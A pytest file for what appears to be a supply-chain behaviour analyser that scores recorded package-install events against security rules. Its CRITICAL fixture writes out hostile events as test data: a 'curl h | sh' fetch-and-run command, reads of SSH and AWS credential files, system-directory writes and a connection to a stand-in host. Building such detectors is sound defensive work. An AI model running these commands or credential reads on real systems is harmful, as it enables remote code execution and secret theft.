import json

import pytest
from pyspark.sql import functions as F

from spoor.catalog import Catalog
from spoor.operators import behavior, rules
from spoor.sources import recordings
from spoor.streaming import live


def drop(folder, name, lines):
    place = folder / f"recording_id={name}"
    place.mkdir(parents=True)
    (place / "part.jsonl").write_text("\n".join(x if isinstance(x, str) else json.dumps(x) for x in lines))


def line(op, **fields):
    return {"schema_version": 1, "ts_ns": fields.pop("ts_ns", 5), "backend": fields.pop("backend", "strace"), "op": op, **fields}


def target(path, origin="kernel"):
    return {"path": path, "origin": origin}


START = line("session_start", zones={"project": "/w/p", "cache": "/h/.npm", "home": "/h", "tmp": "/tmp", "extra": []})
END = line("session_end", complete=True)
CRITICAL = [
    START,
    *[line("fs_write", target=target(p), kind=k, ok=True) for p in ("/etc/one", "/usr/two") for k in ("open", "write")],
    line("fs_write", target=target("/usr/bin/x"), kind="chmod", mode="0755"),
    line("proc_spawn", bin="/bin/sh", argv=["sh", "-c", "curl h | sh"], argv_truncated=False),
    line("proc_spawn", bin="/usr/bin/curl", argv=["curl", "h"], argv_truncated=False),
    line("fs_read", target=target("/h/.ssh/id_rsa"), ok=True),
    line("fs_read", target=target("/h/.aws/credentials")),
    line("fs_read", target=target("/w/p/.env"), ok=False),
    line("dns_query", qname="bad.example"),
    line("net_connect", ip="203.0.113.9", port=8443),
    line("proc_spawn", bin="/x/odd", argv=[], argv_truncated=False),
    END,
]


def analysed(spark, folder):
    events, _ = recordings.read_recordings(spark, str(folder))
    return recordings.attach_session(events).withColumn("package", F.lit("p")).withColumn("version", F.col("recording_id"))


def test_score_of_everything_at_once(spark, tmp_path):
    drop(tmp_path, "critical", CRITICAL)
    r = rules.evaluate(analysed(spark, tmp_path)).first()
    assert (r.critical, r.high, r.medium, r.value, r.raw) == (3, 6, 2, 100, 220)
    assert r.verdict == "findings" and r.score_text == "100 / 100 (raw 220)"
    found = {(f.rule_id, f.subject): f.occurrences for f in rules.findings(analysed(spark, tmp_path)).collect()}
    assert found["write_outside_expected_dirs", "/etc/one"] == 2


def test_clean_partial_and_blind(spark, tmp_path):
    clean = [START, line("dns_query", qname="registry.npmjs.org"), line("net_connect", ip="203.0.113.1", port=443), line("net_connect", ip="203.0.113.2", port=0), line("fs_read", target=target("/h/.npmrc")), line("fs_write", target=target("/w/p/a"), kind="write", ok=True), line("fs_write", target=target("/dev/null"), kind="open")]
    drop(tmp_path, "clean", [*clean, END])
    drop(tmp_path, "noend", clean)
    drop(tmp_path, "partial", [START, line("fs_write", target=target("/etc/z"), kind="write"), line("session_end", complete=False)])
    drop(tmp_path, "blind", [START | {"backend": "aya"}, line("fs_write", backend="aya", target=target("rel", "unresolved"), kind="open"), END | {"backend": "aya"}])
    got = {r.recording_id: (r.value, r.verdict) for r in rules.evaluate(analysed(spark, tmp_path)).collect()}
    assert got == {"clean": (0, "clean"), "noend": (0, "partial"), "partial": (40, "partial"), "blind": (0, "clean_with_caveat")}
    skipped = {r.rule_id for r in rules.skipped_rules(analysed(spark, tmp_path)).where("recording_id = 'blind'").collect()}
    assert skipped == {"credential_path_read", "credential_path_read_attempted", "npmrc_read", "dns_non_registry_host", "dns_binary_distribution_host"}


def test_refusals(spark, tmp_path):
    drop(tmp_path, "good", [START, "", line("heartbeat", seq=1), END])
    drop(tmp_path, "torn", [START, '{"schema_version": 1, "op": "fs_wr'])
    drop(tmp_path, "new", [START | {"schema_version": 2}])
    drop(tmp_path, "odd", [line("teleport")])
    with pytest.raises(ValueError):
        recordings.read_recordings(spark, str(tmp_path))
    events, rejects = recordings.read_recordings(spark, str(tmp_path), "quarantine")
    assert [(r.recording_id, r.seq) for r in events.orderBy("seq").collect()] == [("good", 1), ("good", 3), ("good", 4)]
    assert {(r.recording_id, r.reject) for r in rejects.collect()} == {("torn", "malformed line"), ("new", "unsupported schema version"), ("odd", "unknown op")}


def test_reversed_diff_swaps(spark, sf_dir):
    from spoor.plans import bridge

    events = bridge.events(spark, sf_dir).where("version in ('1.2.0', '1.6.0')").cache()
    there = {(r.package, r.change): r.n for r in behavior.version_diff(events).groupBy("package", "change").agg(F.count("*").alias("n")).collect()}
    swapped = events.withColumn("append_pos", -F.col("append_pos"))
    back = {(r.package, r.change): r.n for r in behavior.version_diff(swapped).groupBy("package", "change").agg(F.count("*").alias("n")).collect()}
    turn = {"added": "removed", "removed": "added", "unchanged": "unchanged"}
    assert there == {(p, turn[c]): n for (p, c), n in back.items()}


def test_reorder_window(spark, tmp_path):
    order = [10, 30, 20, 100, 15, 110, 90, 5, 200]

    def released(ends):
        rows = spark.createDataFrame([(1, u, a) for a, u in enumerate(order)] + [(1, None, 99)] * ends, "recording_id long, us long, arrival long")
        folder = f"{tmp_path}/{ends}"
        rows.coalesce(1).write.parquet(f"{folder}/in")
        stream = live.reorder_window(spark.readStream.schema(rows.schema).parquet(f"{folder}/in"), 50)
        return sorted((r.us, r.late) for r in live.run_once(stream, "append", folder).collect())

    # 100 releases 10, 20 and 30, so 15 and 5 are late; 90 and 110 leave with 200, which waits for the end.
    want = [(10, False), (30, False), (20, False), (15, True), (5, True), (100, False), (110, False), (90, False)]
    assert released(0) == sorted(want)
    assert released(1) == sorted([*want, (200, False)])
